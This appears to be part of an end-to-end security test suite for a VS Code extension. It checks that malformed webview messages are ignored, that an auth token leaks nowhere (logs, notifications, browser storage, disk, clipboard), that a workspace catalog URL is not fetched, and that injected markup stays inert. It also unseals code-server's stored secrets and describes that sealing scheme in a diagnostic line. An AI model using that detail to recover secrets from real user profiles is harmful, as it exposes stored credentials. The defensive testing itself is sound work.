    const ignored = added.split('\n').filter((l) => l.includes('Ignored a malformed message from the response panel'));
    assert.equal(ignored.length, expected, `every malformed message is logged as ignored:\n${added}`);
    for (const d of [
      'type "openCommand" with 2 key(s)',
      'type "executeCommand" with 3 key(s)',
      'type "copyBody" with 2 key(s)',
      `type "${'y'.repeat(40)}" with 1 key(s)`,
      'type "copyCurl" with 3 key(s)',
      'non-object (null)',
      'non-object (array)',
      'non-object (string)',
    ]) {
      assert.ok(
        ignored.some((l) => l.includes(d)),
        `logged: ${d}`,
      );
    }
    assert.ok(!added.includes('x'.repeat(100)), 'the oversize string is not copied into the log');
    // A barrier through the extension host, as in T22: only this send reaches the stand-in.
    await send(w, 'sec-ok');
    assert.equal(api().requests.length, requestsBefore + 1, 'no message made the extension send');
    assert.equal(await w.page.locator('.xterm').count(), 0, 'no message opened a terminal');
    assert.deepEqual(canary().requests, []);
  });

  test(
    'T1/T4/T24: the token is nowhere — Output, notifications, panel, history, storage, disk, after a reload',
    {
      timeout: E2E_TIMEOUTS.test,
    },
    async (t) => {
      const w = wb();
      await ensureToken(w);
      await grantClipboard(w.page);

      // The panel (with its history list) as it stands.
      await send(w, 'sec-echo');
      await panelText(w, 'the 500 in the panel', (txt) => /\b500\b/.test(txt) && txt.includes('boom'));
      const history = await (
        await panel(w)
      ).content.evaluate(() => {
        for (const d of Array.from(document.querySelectorAll('details'))) d.open = true;
        return Array.from(document.querySelectorAll('.history button')).map(
          (b) => `${b.textContent} ${b.getAttribute('title')}`,
        );
      });
      assert.ok(history.length > 0, 'positive control: the panel lists the history');
      await assertPanelClean(w, 'at the end');

      // The Output channel, read through the UI (the whole text, via select all + copy).
      const output = await outputText(w, notificationsSeen);
      assert.ok(output.includes(`set for ${api().origin}`), 'positive control: the Output names the token set');
      assert.ok(output.includes('→ 500 Internal Server Error'), 'positive control: the Output logs the sends');
      assert.deepEqual(encodingsIn(output, ENCODINGS), [], 'no token in the Output channel');
      // T7: the trusted folder's meetingPayloads.catalogs (resource scope, honoured once trusted) named a
      // URL; the server took it for a local path and never fetched it.
      assert.match(
        output,
        /User catalog "evil"[^\n]*could not be read/,
        'the workspace catalog URL was read as a path',
      );

      // Every notification: those seen during the run and the notification center now.
      await noteNotifications(w);
      await w.runCommand('Notifications: Show Notifications');
      await w.visible(w.page.locator('.notifications-center'), 'the notification center');
      for (const text of await w.page.locator('.notifications-center .notification-list-item').allInnerTexts()) {
        notificationsSeen.add(text);
      }
      await w.screenshot('T4-notification-center');
      assert.ok(notificationsSeen.size > 3, `positive control: notifications were read (${notificationsSeen.size})`);
      for (const text of notificationsSeen) {
        assert.deepEqual(encodingsIn(text, ENCODINGS), [], `no token in the notification "${text}"`);
      }
      await w.page.keyboard.press('Escape');

      // The browser: localStorage and every IndexedDB record (workbench state, mementos with the history,
      // webview state, logs), and code-server's sealed SecretStorage.
      const checkBrowser = async (when: string): Promise<void> => {
        const storage = await browserStorage(w.page);
        const records = [
          ...Object.entries(storage.localStorage).map(([k, v]) => ({
            where: `localStorage[${k}]`,
            text: `${k}\n${v}`,
          })),
          ...storage.indexedDb.map((r) => ({
            where: `IndexedDB ${r.db}/${r.store}/${r.key}`,
            text: `${r.key}\n${r.value}`,
          })),
        ];
        for (const r of records) assert.deepEqual(encodingsIn(r.text, ENCODINGS), [], `no token in ${r.where} ${when}`);
        assert.ok(
          storage.indexedDb.some((r) => r.value.includes(`meetingPayloads.history:`) && r.value.includes('sec-echo')),
          `positive control: the history memento is in IndexedDB ${when}`,
        );
        const sealed = storage.localStorage['secrets.provider'];
        assert.ok(sealed, `code-server's SecretStorage is localStorage["secrets.provider"] ${when}`);
        const keyHalf = readFileSync(join(session().userDataDir, 'serve-web-key-half'));
        const secrets = unsealCodeServerSecrets(sealed, keyHalf);
        assert.ok(
          secrets.includes(EXTENSION_ID) && secrets.includes(TOKEN),
          `the token is in SecretStorage, sealed ${when}`,
        );
      };
      await checkBrowser('before the reload');

      // Disk: code-server's user data (settings, logs incl. the Output channel's file, extension storage),
      // the extensions folder, the workspace copy, the server log, and the browser's profile.
      const checkDisk = (when: string): void => {
        const roots = [
          session().userDataDir,
          session().extensionsDir,
          session().workspace,
          session().outputDir,
          ...chromiumProfileDirs(),
        ];
        assert.ok(roots.length >= 5, `the browser profile was found ${when}`);
        for (const root of roots) {
          const { files, findings } = scanTree(root, ENCODINGS);
          assert.ok(files > 0, `positive control: ${root} has files`);
          assert.deepEqual(findings, [], `no token under ${root} ${when}`);
        }
        assert.ok(existsSync(join(session().userDataDir, 'serve-web-key-half')));
      };
      checkDisk('before the reload');

      // Reload: the panel comes back from its saved state (T24), the token is still stored (sealed), and
      // everything the workbench flushed on the way out is searched again.
      await w.page.reload({ timeout: 60_000 });
      await w.waitForWorkbench();
      const { content } = await panel(w);
      await w.until('the restored panel', async () => (await content.locator('body').innerText()).includes('Restored'));
      await content.evaluate(() => {
        for (const d of Array.from(document.querySelectorAll('details'))) d.open = true;
      });
      assert.match(
        await content.locator('body').innerText(),
        /Request headers are not kept after a reload/,
        'the saved state holds no request headers',
      );
      await w.screenshot('T24-restored-panel');
      await assertPanelClean(w, 'after the reload');
      await openFile(w, 'sec-ok.meeting.json');
      await w.visible(w.statusBar.locator('.codicon-key'), 'the "token set" key in the status bar after the reload');
      await checkBrowser('after the reload');
      checkDisk('after the reload');
      t.diagnostic(
        'code-server keeps SecretStorage in the browser\'s localStorage["secrets.provider"], AES-256-GCM; key = a per-value half stored inside the value XOR <user-data-dir>/serve-web-key-half (POST /mint-key)',
      );
      assert.deepEqual(canary().requests, [], 'the canary got nothing in the whole run');
    },
  );
});

// -------------------------------------------------------------------------------------------------

/** Takes the keyboard focus out of a webview (after a click in the panel), so shortcuts reach the workbench. */
async function focusWorkbench(w: Workbench): Promise<void> {
  await w.page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
}

/**
 * Opens a file in the first editor group. Clicking in the panel makes its group the active one, and a
 * file opened there would hide the panel (which, without retainContextWhenHidden, drops its frames).
 */
async function openFile(w: Workbench, name: string): Promise<void> {
  await focusWorkbench(w);
  await w.closeQuickInput();
  await w.page.keyboard.press('Control+1');
  await w.page.keyboard.press('Control+P');
  const input = await w.visible(w.quickInput.locator('input'), 'quick open');
  await input.fill(name);
  // Enter opens the focused row: wait for the filtered list, not a row of the recent-files list before it.
  await w.visible(
    w.quickInput.locator('.monaco-list-row.focused', { hasText: name }),
    `"${name}" focused in quick open`,
  );
  await w.page.keyboard.press('Enter');
  await w.visible(
    w.page.locator(`.editor-group-container.active .tab.active[aria-label*="${name}"]`),
    `the editor tab of ${name}`,
  );
  await w.visible(
    w.page.locator('.editor-group-container.active .monaco-editor.focused'),
    `the keyboard focus in ${name}`,
  );
}

/** Notes every notification text, then clears them (error toasts stay up and cover the Output view). */
async function clearNotifications(w: Workbench, seen: Set<string>): Promise<void> {
  await focusWorkbench(w);
  for (const text of await w.notifications.allInnerTexts().catch(() => [])) seen.add(text);
  await w.runCommand('Notifications: Clear All Notifications');
  await w.hidden(w.page.locator('.notifications-toasts .notification-toast'), 'the notifications to clear');
}

function readClipboard(page: Page): Promise<string> {
  return page.evaluate(() => navigator.clipboard.readText());
}

/** Runs `action` and returns what it put on the clipboard (a sentinel first, so a stale text is never taken). */
async function copied(w: Workbench, action: () => Promise<unknown>): Promise<string> {
  const sentinel = `sentinel-${Date.now()}`;
  await w.page.evaluate((s) => navigator.clipboard.writeText(s), sentinel);
  await action();
  return w.until('the copy on the clipboard', async () => {
    const text = await readClipboard(w.page);
    return text !== sentinel && text.length > 0 ? text : undefined;
  });
}

/** The whole text of the "Meeting Payloads" Output channel, read like a user would copy it. */
async function outputText(w: Workbench, notificationsSeen: Set<string>): Promise<string> {
  await clearNotifications(w, notificationsSeen);
  await grantClipboard(w.page);
  await w.runCommand('Meeting Payloads: Show Output');
  const editor = w.page.locator('#workbench\\.parts\\.panel .monaco-editor').first();
  await w.visible(editor, 'the Output view');
  let last = '';
  const text = await w.until(
    'the Meeting Payloads Output text',
    async () => {
      await w.page.evaluate(() => navigator.clipboard.writeText(''));
      // On the first line's timestamp: below the sash at the panel's top edge, left of any link the
      // Output view makes of a URL.
      await editor.click({ position: { x: 40, y: 12 } });
      await w.page.keyboard.press('Control+A');
      await w.page.keyboard.press('Control+C');
      last = await readClipboard(w.page);
      return last.includes('Catalog loaded') ? last : undefined;
    },
    { describe: () => Promise.resolve(`clipboard: ${JSON.stringify(last.slice(0, 300))}`) },
  );
  await w.screenshot('output-channel');
  return text;
}

/** The CSP meta, its position among the extension's <meta> elements, the nonce and every script's nonce. */
async function cspOf(
  content: Frame,
): Promise<{ policy: string; nonce: string; metaIndex: number; scripts: Array<{ src: string; nonce: string }> }> {
  return content.evaluate(() => {
    const metas = Array.from(document.head.querySelectorAll('meta'));
    const meta = document.head.querySelector('meta[http-equiv="Content-Security-Policy"]');
    const policy = meta?.getAttribute('content') ?? '';
    return {
      policy,
      nonce: /'nonce-([^']+)'/.exec(policy)?.[1] ?? '',
      metaIndex: meta ? metas.indexOf(meta as HTMLMetaElement) : -1,
      // VS Code injects its own acquireVsCodeApi script (#_vscodeApiScript) ahead of the CSP; the rest are ours.
      scripts: Array.from(document.scripts)
        .filter((s) => s.id !== '_vscodeApiScript')
        .map((s) => ({ src: s.src || '(inline)', nonce: s.nonce || s.getAttribute('nonce') || '' })),
    };
  });
}

/**
 * Whether any hostile markup ran or became an element in the panel. A failing <img> of our own goes
 * first, so an `onerror` payload would have fired by the time the globals are read (no fixed sleep).
 */
async function assertInert(w: Workbench, content: Frame, what: string): Promise<void> {
  const verdict = await content.evaluate(async () => {
    await new Promise<void>((resolve) => {
      const probe = new Image();
      probe.onerror = () => resolve();
      probe.onload = () => resolve();
      probe.src = `x?probe=${Date.now()}`;
    });
    const app = document.getElementById('app');
    return {
      ran: (window as { __secXss?: unknown }).__secXss ?? null,
      title: document.title,
      elements: app
        ? Array.from(app.querySelectorAll('script,img,svg,iframe,meta,style,link,a,form,base,object,embed,input')).map(
            (e) => e.tagName,
          )
        : ['(no #app)'],
      frames: document.querySelectorAll('iframe').length,
      scripts: document.scripts.length,
      base: document.querySelectorAll('base').length,
    };
  });
  assert.equal(verdict.ran, null, `no payload ran in ${what}`);
  assert.equal(verdict.title, PANEL_DOCUMENT_TITLE, `the title is unchanged after ${what}`);
  assert.deepEqual(verdict.elements, [], `no element was made from ${what}`);
  assert.equal(verdict.frames, 0, `no frame in the panel after ${what}`);
  assert.equal(verdict.scripts, 2, `only VS Code's API script and main.js after ${what}`);
  assert.equal(verdict.base, 0, `no <base> after ${what}`);
  assert.notEqual(await w.page.title(), 'XSS');
}
